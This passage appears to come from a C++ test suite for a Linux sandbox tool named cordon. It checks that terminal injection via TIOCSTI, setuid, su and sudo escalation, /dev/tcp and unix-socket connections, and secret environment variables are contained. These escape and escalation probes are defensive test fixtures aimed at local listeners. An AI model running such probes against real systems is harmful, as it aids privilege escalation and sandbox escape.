             "fcntl.ioctl(0, termios.TIOCGWINSZ, b'\\0' * 8)\n"
             "try:\n"
             "    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n"
             "    print('injected')\n"
             "except OSError as e:\n"
             "    print('denied', e.errno)\n");
  // Outside cordon the same script injects (where the kernel allows it), so the probe works.
  auto bare = under_pty(box, "python3 sti.py", false);
  auto o = under_pty(box, "python3 sti.py", true);
  EXPECT_TRUE(contains(o.out, "tty")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "no-tty")) << o.out;
  EXPECT_TRUE(contains(o.out, "denied")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "injected")) << o.out;
  if (!contains(bare.out, "injected"))
    std::cout << "[ note ] TIOCSTI is refused by this kernel even outside cordon\n";
}

TEST(Containment, NoNewPrivilegesAndNoCapabilities) {
  Sandbox box;
  auto o = box.sh("grep -E '^(NoNewPrivs|CapEff|CapPrm|CapAmb):' /proc/self/status");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_TRUE(contains(o.out, "NoNewPrivs:\t1")) << o.out;
  EXPECT_TRUE(contains(o.out, "CapEff:\t0000000000000000")) << o.out;
  EXPECT_TRUE(contains(o.out, "CapPrm:\t0000000000000000")) << o.out;
}

TEST(Containment, SetuidBinariesDoNotChangeTheUser) {
  Sandbox box;
  if (is_root()) {
    // A setuid program owned by nobody: outside, root running it becomes nobody, which shows
    // setuid works on this filesystem; inside, the transition must not happen.
    if (!have_tool("cc")) GTEST_SKIP() << "no C compiler to build the setuid probe";
    OutsideDir bin;
    write_file(bin / "euid.c",
               "#include <stdio.h>\n#include <unistd.h>\nint "
               "main(void){printf(\"euid=%u\\n\",(unsigned)geteuid());return 0;}\n");
    ASSERT_EQ(run_process({"cc", "-o", bin / "euid", bin / "euid.c"}, bin.path()).code, 0);
    ASSERT_EQ(::chown((bin / "euid").c_str(), 65534, 65534), 0);
    ASSERT_EQ(::chmod((bin / "euid").c_str(), 04755), 0);
    auto bare = run_process({bin / "euid"}, bin.path());
    if (bare.out != "euid=65534\n")
      GTEST_SKIP() << "setuid does not take effect here even outside cordon: " << bare.out;
    auto o = box.sh(bin / "euid");
    EXPECT_EQ(o.out, "euid=" + std::to_string(::geteuid()) + "\n") << o.err;
  } else {
    // passwd is setuid root: `passwd -S` shows the shadow fields (a date among them) only
    // when it runs as root. Outside it does; inside it must not.
    struct stat st {};
    if (::stat("/usr/bin/passwd", &st) == 0 && (st.st_mode & S_ISUID) && st.st_uid == 0) {
      auto fields = [](const std::string& line) {
        std::istringstream in(line);
        return std::distance(std::istream_iterator<std::string>(in), std::istream_iterator<std::string>());
      };
      auto bare = run_process({"/usr/bin/passwd", "-S"}, box.ws.path());
      if (fields(bare.out) >= 3) {
        auto inside = box.sh("/usr/bin/passwd -S");
        EXPECT_LT(fields(inside.out), 3) << "setuid passwd read the shadow file inside:\n"
                                         << inside.out << inside.err;
      } else {
        std::cout << "[ note ] passwd -S does not show shadow fields here: " << bare.out << bare.err;
      }
    }
    if (!exists("/usr/bin/su")) GTEST_SKIP() << "no /usr/bin/su to try";
    auto o = box.sh("su -c 'id -u > became.txt' root </dev/null; echo su=$?; id -u");
    EXPECT_FALSE(exists(box.ws / "became.txt")) << o.out << o.err;
    EXPECT_TRUE(contains(o.out, "\n" + std::to_string(::getuid()) + "\n")) << o.out;
    if (have_tool("sudo")) {
      auto s = box.sh("sudo -n id -u > became.txt; echo sudo=$?");
      EXPECT_FALSE(contains(read_file(box.ws / "became.txt"), "0\n")) << s.out << s.err;
    }
  }
}

// ---- network ----------------------------------------------------------------------------

TEST(Containment, LoopbackListenerOutsideIsUnreachableWithNetOff) {
  if (!have_tool("bash")) GTEST_SKIP() << "bash is not installed (used for /dev/tcp)";
  Sandbox box;
  auto listener = Listener::tcp_loopback();
  ASSERT_TRUE(listener);
  const std::string connect =
      "bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + listener->address() + "' && echo connected";
  auto off = box.sh(connect + "; true");
  EXPECT_FALSE(contains(off.out, "connected")) << off.out << off.err;
  ::usleep(200 * 1000);
  EXPECT_EQ(listener->connections(), 0);

  // The same probe with the network on reaches the listener, so it can detect a leak.
  auto on = box.sh(connect, {"--net", "on"});
  EXPECT_TRUE(contains(on.out, "connected")) << on.out << on.err;
  for (int i = 0; i < 50 && listener->connections() == 0; ++i) ::usleep(20 * 1000);
  EXPECT_EQ(listener->connections(), 1);
}

TEST(Containment, AbstractUnixSocketOutsideIsUnreachable) {
  if (!have_tool("python3")) GTEST_SKIP() << "python3 is not installed";
  Sandbox box;
  const std::string name = unique_token("cordon-test-abstract-");
  auto listener = Listener::abstract_unix(name);
  ASSERT_TRUE(listener);
  write_file(box.ws / "connect.py",
             "import socket, sys\n"
             "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
             "try:\n"
             "    s.connect('\\0' + sys.argv[1])\n"
             "    print('connected')\n"
             "except OSError as e:\n"
             "    print('refused', e.errno)\n");
  // A client outside connects, so the probe works.
  auto bare = run_process({"python3", box.ws / "connect.py", name}, box.ws.path());
  EXPECT_TRUE(contains(bare.out, "connected")) << bare.out << bare.err;
  for (int i = 0; i < 50 && listener->connections() == 0; ++i) ::usleep(20 * 1000);
  ASSERT_EQ(listener->connections(), 1);

  auto o = box.sh("python3 connect.py " + name);
  EXPECT_TRUE(contains(o.out, "refused")) << o.out << o.err;
  ::usleep(200 * 1000);
  EXPECT_EQ(listener->connections(), 1);
}

// ---- modes, roots, environment ----------------------------------------------------------

TEST(Containment, TmpNoneGivesAnEmptyReadOnlyTmp) {
  Sandbox box;
  // A file in the host's /tmp must not show through (only the path to a workspace under
  // /tmp may appear there).
  const std::string host_file = "/tmp/" + unique_token("cordon-host-only-");
  write_file(host_file, "host\n");
  auto o = box.sh("echo ok > inside.txt; test -e " + host_file +
                      " && echo host-visible; "
                      "echo x > /tmp/new && echo wrote-tmp; true",
                  {"--tmp", "none"});
  ::unlink(host_file.c_str());
  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n") << o.err;
  EXPECT_FALSE(contains(o.out, "host-visible")) << o.out;
  EXPECT_FALSE(contains(o.out, "wrote-tmp")) << o.out;
}

TEST(Containment, TmpHostSharesTheRealTmp) {
  Sandbox box;
  const std::string name = "/tmp/" + unique_token("cordon-host-tmp-");
  auto o = box.sh("echo shared > " + name, {"--tmp", "host"});
  const std::string seen = read_file(name);
  ::unlink(name.c_str());
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(seen, "shared\n");
}

TEST(Containment, ReadOnlyModeDeniesWorkspaceWritesButTmpStaysWritable) {
  Sandbox box;
  write_file(box.ws / "existing.txt", "original\n");
  auto o =
      box.sh("echo x > /tmp/scratch && cat /tmp/scratch; echo bad > existing.txt; echo bad > new.txt; true",
             {"--mode", "read-only"});
  EXPECT_EQ(o.out, "x\n") << o.err;
  EXPECT_EQ(read_file(box.ws / "existing.txt"), "original\n");
  EXPECT_FALSE(exists(box.ws / "new.txt"));
}

TEST(Containment, ExtraWritableRootIsWritableAndOthersAreNot) {
  Sandbox box;
  OutsideDir extra, other;
  auto o = box.sh("echo ok > " + extra.path() + "/made.txt; echo bad > " + other.path() + "/made.txt; true",
                  {"--writable", extra.path()});
  EXPECT_EQ(read_file(extra / "made.txt"), "ok\n") << o.err;
  EXPECT_FALSE(exists(other / "made.txt"));
}

TEST(Containment, SecretLookingVariablesAreDroppedUnlessKept) {
  Sandbox box;
  const std::vector<std::string> env = {"MY_SERVICE_TOKEN=tok-value", "CORDON_PLAIN_SETTING=plain-value"};
  const std::string script = "echo token=${MY_SERVICE_TOKEN:-unset} plain=${CORDON_PLAIN_SETTING:-unset}";
  auto dropped = box.sh(script, {}, "", env);
  EXPECT_EQ(dropped.out, "token=unset plain=plain-value\n") << dropped.err;
  auto kept = box.sh(script, {"--env-keep", "MY_SERVICE_TOKEN"}, "", env);
  EXPECT_EQ(kept.out, "token=tok-value plain=plain-value\n") << kept.err;
}

// ---- lifecycle ----------------------------------------------------------------------------

TEST(Containment, TimeoutKillsTheWholeTree) {
  Sandbox box;
  const std::string token = "31." + std::to_string(::getpid()) + "7";
  auto start = Clock::now();
  auto o = box.sh("sleep " + token + " & sleep " + token, {"--timeout", "1"});
  auto elapsed = Clock::now() - start;
  EXPECT_EQ(o.code, 124) << o.err;
  EXPECT_LT(elapsed, std::chrono::seconds(5));
  ::usleep(200 * 1000);
  auto left = host_processes_with("sleep " + token);
  EXPECT_TRUE(left.empty()) << left.front();
}

TEST(Containment, ExitCodeIs128PlusTheSignal) {
  Sandbox box;
  EXPECT_EQ(box.sh("kill -TERM $$").code, 128 + SIGTERM);
  EXPECT_EQ(box.sh("kill -KILL $$").code, 128 + SIGKILL);
  EXPECT_EQ(box.sh("exit 3").code, 3);
}

TEST(Containment, CommandNotFoundIs127) {
  Sandbox box;
  auto o = run_process({cordon_binary(), "run", "--no-config", "--", "cordon-no-such-command-xyz"},
                       box.ws.path(), "", box.env({"PATH=/usr/bin:/bin"}));
  EXPECT_EQ(o.code, 127) << o.err;
  EXPECT_TRUE(contains(o.err, "cordon-no-such-command-xyz")) << o.err;
}

// As in sh and bash: a command found nowhere is 127, even if a $PATH entry was unreadable
// (execvp then reports EACCES). Inside, even root lacks CAP_DAC_OVERRIDE.
TEST(Containment, CommandNotFoundIs127EvenWithAnUnreadablePathEntry) {
  Sandbox box;
  OutsideDir dir;
  fs::create_directories(dir / "locked");
  ::chmod((dir / "locked").c_str(), 0);
  const std::string path = "PATH=" + dir.path() + "/locked:/usr/bin:/bin";
  auto shell = run_process({"sh", "-c", "cordon-no-such-command-xyz"}, box.ws.path(), "", {path});
  auto o = run_process({cordon_binary(), "run", "--no-config", "--", "cordon-no-such-command-xyz"},
                       box.ws.path(), "", box.env({path}));
  ::chmod((dir / "locked").c_str(), 0755);
  EXPECT_EQ(shell.code, 127) << shell.err;
  EXPECT_EQ(o.code, 127) << o.err;
}

TEST(Containment, SigtermAndSigintToCordonAreForwarded) {
  for (int sig : {SIGTERM, SIGINT}) {
    SCOPED_TRACE(sig == SIGTERM ? "SIGTERM" : "SIGINT");
    Sandbox box;
    const std::string name = sig == SIGTERM ? "TERM" : "INT";
    pid_t pid = spawn_cordon(
        box, "trap 'echo got > trapped; exit 3' " + name + "; echo > ready; while :; do sleep 0.05; done");
    ASSERT_TRUE(wait_for_file(box.ws / "ready", 10000));
    ::kill(pid, sig);
    int code = wait_exit(pid, 10000);
    EXPECT_EQ(code, 3);
    EXPECT_EQ(read_file(box.ws / "trapped"), "got\n");
  }
}
